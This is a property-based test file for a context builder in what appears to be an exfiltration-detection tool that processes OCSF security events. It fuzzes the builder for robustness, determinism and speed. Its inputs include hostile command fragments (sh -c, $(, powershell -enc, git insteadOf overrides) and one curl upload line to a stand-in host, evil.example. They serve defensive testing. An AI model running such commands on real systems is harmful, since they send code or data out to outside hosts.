/** Whatever a log holds: the builder never throws, never takes long, and gives the same answer twice. */
import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { loadCatalogue } from "../../../content/load-catalogue.ts";
import type { OcsfEvent } from "../../../model/activity.ts";
import type { Policy } from "../../../model/policy.ts";
import { createContextBuilder } from "./index.ts";
import { parseGitAddress, pathSegments } from "./git-address.ts";

const catalogue = loadCatalogue();
const policy: Policy = {
  sanctioned: {
    repositories: ["github.com/acme/*", "*.acme.example/*/x?"],
    hosts: [{ match: "*", repositories: ["github.com/acme/*"] }],
    users: ["*@acme.example"],
    service_accounts: [{ match: "*bot*", hosts: ["ci-*"] }],
    addresses: ["10.0.0.0/8"],
  },
  RepoDomainList: ["github.com"],
  MonitoredDomains: ["partner.example"],
  people: [{ user: "alice@acme.example", logins: ["alice"] }],
  WorkHours: { timezone: "Europe/Berlin" },
  sensitive_paths: ["*\\Finance\\*", "*/a/*/b/*"],
};
const build = createContextBuilder(catalogue, policy);

const text = fc.oneof(
  fc.string({ maxLength: 80 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc
    .array(
      fc.constantFrom(
        "git",
        " push ",
        "https://",
        "github.com",
        "/",
        "acme",
        ":",
        "@",
        '"',
        "'",
        "\\",
        "%2f",
        "%",
        "..",
        ".git",
        "-c ",
        "url.",
        ".insteadOf=",
        "curl -X ",
        "PUT ",
        " -d ",
        "gh api ",
        "sh -c ",
        "$(",
        ")",
        ";",
        "&&",
        "api.",
        "\n",
        "powershell -enc ",
        "ssh ",
        "docker push ",
        "__proto__",
      ),
      { maxLength: 24 },
    )
    .map((parts) => parts.join("")),
);

test("any text anywhere", () => {
  fc.assert(
    fc.property(text, text, text, fc.integer(), (one, other, third, time) => {
      const fields = [
        { class_uid: 1007, activity_id: 1, process: { cmd_line: one, name: other, working_directory: third } },
        {
          class_uid: 4002,
          http_request: {
            http_method: third,
            user_agent: other,
            url: { url_string: one, hostname: other, path: one, query_string: third },
          },
        },
        { class_uid: 4002, http_request: { http_method: "POST", url: { hostname: "github.com", path: one } } },
        { class_uid: 4002, url: { url_string: one } },
        { class_uid: 4001, tls: { sni: one }, dst_endpoint: { hostname: other, ip: third } },
        { class_uid: 4003, query: { hostname: one } },
        {
          class_uid: 6003,
          api: { operation: one, service: { name: "GitHub" } },
          resources: [{ name: other, type: third }],
          dst_endpoint: { hostname: third },
        },
        {
          class_uid: 1001,
          file: { path: one },
          actor: { user: { name: other, email_addr: third } },
          device: { hostname: one },
          src_endpoint: { ip: other },
        },
      ];
      for (const field of fields) {
        const event = {
          activity_id: 1,
          time,
          metadata: { product: { name: "Test" } },
          ...field,
        } as unknown as OcsfEvent;
        const context = build(event);
        expect(build(event)).toEqual(context);
        const { destination } = context;
        if (destination !== null) {
          expect(destination.name.startsWith(destination.host)).toBe(true);
          expect(destination.host).toBe(destination.host.toLowerCase());
        }
      }
    }),
    { numRuns: 300 },
  );
});

test("the order of events does not change a context", () => {
  const lines = [
    "git push https://github.com/acme/x",
    "curl -T a https://evil.example/x.git/git-receive-pack",
    "gh gist create a",
  ];
  const events = lines.map(
    (cmd_line) =>
      ({
        class_uid: 1007,
        activity_id: 1,
        time: 0,
        metadata: { product: { name: "Test" } },
        process: { cmd_line },
      }) as unknown as OcsfEvent,
  );
  const forward = createContextBuilder(catalogue, policy);
  const backward = createContextBuilder(catalogue, policy);
  const first = events.map(forward);
  const last = events.toReversed().map(backward).toReversed();
  expect(first).toEqual(last);
});

test("addresses and paths never throw", () => {
  fc.assert(
    fc.property(text, (value) => {
      parseGitAddress(value);
      for (const segment of pathSegments(value)) expect(segment).not.toBe("..");
    }),
    { numRuns: 500 },
  );
});

describe("64 KiB of anything takes milliseconds", () => {
  const size = 65_536;
  const repeat = (unit: string): string => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  const units = [
    "a",
    '"',
    "'",
    "\\",
    '\\"',
    "(",
    ")",
    "`",
    " ",
    "; ",
    "a ",
    "-c ",
    "-c url.x.insteadOf=",
    "http://",
    "http://! ",
    "https://github.com/ ",
    "git push ",
    "sh -c ",
    "sudo ",
    "../",
    "%2f",
    "/",
    "@",
    "a@b:",
    ".",
    "a.",
    ":",
    "::",
    "-",
    "--x=",
    "GIT=",
    "x=@/",
    "git+https://",
    "method ",
    "method:",
    "private ",
    "data ",
    "open(",
    "upload",
    "powershell -enc QQAA",
    "docker push @sha256:",
    "ssh -p ",
    "-F",
    "\n",
    "\u0000",
    "а",
    "xn--",
    "&&",
    "|",
    "$(",
    "curl -d ",
  ];
  test.each(units)("%j", (unit) => {
    for (const prefix of [
      "",
      "git ",
      "git push ",
      "curl ",
      "sh -c '",
      'powershell -Command "',
      "python -c ",
      "gh api ",
      "ssh ",
      "docker push ",
      "tar ",
    ]) {
      const hostile = prefix + repeat(unit);
      const fields = [
        {
          class_uid: 1007,
          activity_id: 1,
          process: { cmd_line: hostile, name: "x", working_directory: "/srv/Finance" },
        },
        { class_uid: 1009, activity_id: 1, script: { script_content: { value: hostile } } },
      ];
      if (prefix === "") {
        fields.push(
          {
            class_uid: 4002,
            http_request: {
              http_method: "POST",
              user_agent: hostile,
              url: { hostname: "github.com", path: hostile, query_string: hostile },
            },
          } as never,
          {
            class_uid: 4002,
            http_request: { http_method: "POST", url: { hostname: hostile, path: hostile } },
          } as never,
          { class_uid: 4002, url: { url_string: hostile } } as never,
          { class_uid: 4003, query: { hostname: hostile } } as never,
          { class_uid: 4001, tls: { sni: hostile }, dst_endpoint: { ip: hostile } } as never,
          {
            class_uid: 6003,
            api: { operation: hostile, service: { name: "GitLab" } },
            resources: [{ name: hostile, type: "repository" }],
          } as never,
          {
            class_uid: 1001,
            file: { path: hostile },
            actor: { user: { name: hostile } },
            device: { hostname: hostile },
          } as never,
        );
      }
      for (const field of fields) {
        const event = {
          time: 0,
          metadata: { product: { name: "Test" } },
          ...field,
          activity_id: 1,
        } as unknown as OcsfEvent;
        const { user: started } = process.threadCpuUsage();
        build(event);
        // Far above what it takes, far below what a quadratic reading would; of this thread, whatever else the machine does.
        expect((process.threadCpuUsage().user - started) / 1_000, `${prefix}${unit}`).toBeLessThan(150);
      }
    }
  });
});
